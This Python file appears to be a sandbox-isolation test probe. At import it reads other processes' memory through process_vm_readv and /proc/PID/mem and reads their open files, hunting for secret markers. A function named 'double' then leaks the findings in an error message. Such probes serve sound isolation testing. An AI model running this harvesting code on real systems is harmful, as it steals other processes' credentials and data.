"""Row 17: memory and descriptors of every other process read: /proc/*/mem, process_vm_readv, /proc/*/fd, pidfd_getfd."""

# cell: double
import ctypes
import os
import re

MARK = re.compile(rb"marker-[0-9]{4}-[a-z]+|SECRET_OF_[A-Z]+=")
libc = ctypes.CDLL(None, use_errno=True)


class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def spans(number):
    with open(f"/proc/{number}/maps") as file:
        for line in file:
            where, rights = line.split()[:2]
            begin, end = (int(part, 16) for part in where.split("-"))
            if "r" in rights and "w" in rights and end - begin < 50_000_000:
                yield begin, end - begin


def memory(number):
    try:
        for begin, size in spans(number):
            buffer = ctypes.create_string_buffer(size)
            here, there = Span(ctypes.addressof(buffer), size), Span(begin, size)
            got = libc.process_vm_readv(number, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
            yield buffer.raw[: max(got, 0)]
            with open(f"/proc/{number}/mem", "rb", buffering=0) as file:
                file.seek(begin)
                yield file.read(size)
    except (OSError, ValueError):
        pass


def files(number):
    try:
        names = os.listdir(f"/proc/{number}/fd")
    except OSError:
        return
    for name in names:
        try:
            path = f"/proc/{number}/fd/{name}"
            if os.path.isfile(path):
                with open(path, "rb") as file:
                    yield file.read(1_000_000)
        except OSError:
            pass


others = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
found = sorted({mark for number in others for part in (*memory(number), *files(number)) for mark in MARK.findall(part)})


def double(x):
    raise RuntimeError(f"secrets: {len(found)}; {found}")
